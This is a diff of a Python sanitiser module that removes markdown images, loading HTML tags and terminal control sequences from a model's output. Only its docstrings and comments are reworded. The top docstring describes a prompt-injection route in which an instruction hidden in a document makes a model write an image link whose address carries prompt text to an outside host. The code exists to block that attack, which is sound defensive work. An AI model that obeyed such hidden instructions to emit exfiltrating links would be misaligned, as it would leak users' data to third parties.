@@ -1,7 +1,7 @@
-"""Pictures and HTML in a model's text: a page that rendered them would call addresses of the model's choice.
+"""Remove pictures and HTML from a model's text: a page that rendered them would call addresses of the model's choice.
 
-An order hidden in a document can make a model write ``![x](https://host/?q=...)``, with what it read in the address.
-Markdown pictures go wherever they stand, in code too: what is code depends on all the text before. HTML in code stays.
+An instruction hidden in a document can make a model write ``![x](https://host/?q=...)``, with text of the prompt in the
+address. Markdown pictures are removed in code too, since what is code depends on all text before. HTML in code stays.
 """
 
 from __future__ import annotations
@@ -12,12 +12,12 @@ _CAPTION = r"!\[((?:[^\[\]]|\[[^\[\]]{0,300}\]){0,300})\]"
 _PICTURE = re.compile(rf"{_CAPTION}\((?:[^()]|\([^()]{{0,2000}}\)){{0,2000}}\)?")
 _BEGUN = re.compile(r"(?<!!)!+\[")
 _DEEPEST = 20
-"""Pictures in captions of pictures; those that go deeper are broken open."""
+"""Levels of pictures in captions of pictures; deeper ones are defused."""
 _DEFINITION = re.compile(
     r"^[ \t>]{0,20}\[[^\[\]\n]{1,300}\]:[ \t]*\n?[ \t>]*<?(?=[^\s>]{0,2000}[/:.])[^\s>]{1,2000}>?[^\n]{0,2000}$",
     re.MULTILINE,
 )
-"""What the reference of a picture, ``![x]`` or ``![x][y]``, stands for: ``[x]: https://host/...``."""
+"""The target of a picture's reference, ``![x]`` or ``![x][y]``: ``[x]: https://host/...``."""
 _LOADS = (
     "img|image|picture|source|video|audio|track|iframe|frame|frameset|object|embed|applet|svg|math|script|style|link|meta"
     "|base|body|form|input|button|portal"
@@ -29,14 +29,14 @@ _TAG = re.compile(
 _ESCAPE = re.compile(
     r"\x1b\[[0-9;:?]{0,40}[ -/]?[@-~]|\x1b\][^\x07\x1b\n]{0,2000}(?:\x07|\x1b\\)?|[\x00-\x08\x0b-\x1f\x7f-\x9f]"
 )
-"""What a terminal would obey."""
+"""Control sequences of terminals."""
 _CODE = re.compile(r"\A(```|~~~).*\1\Z|(?<![\\`])`[^`\n]{1,300}`(?!`)", re.DOTALL)
 
 
 def without_embedded(text: str) -> tuple[str, int]:
-    """Return a sentence with pictures replaced by their captions and without tags that load; and how many there were.
+    """Replace pictures by their captions and remove tags that load; return the text and how many there were.
 
-    What would drive a terminal goes too, uncounted.
+    Control sequences of terminals are removed too, uncounted.
 
     Examples
     --------
@@ -64,7 +64,7 @@ def _without_pictures(text: str) -> tuple[str, int]:
         found += count
         if not count:
             break
-    # What is begun here may end in another sentence.
+    # A picture that begins here may end in another sentence.
     head, end, tail = text.rpartition("]") if not count else ("", "", text)
     tail, begun = _BEGUN.subn("[", tail)
     return f"{head}{end}{tail}", found + begun
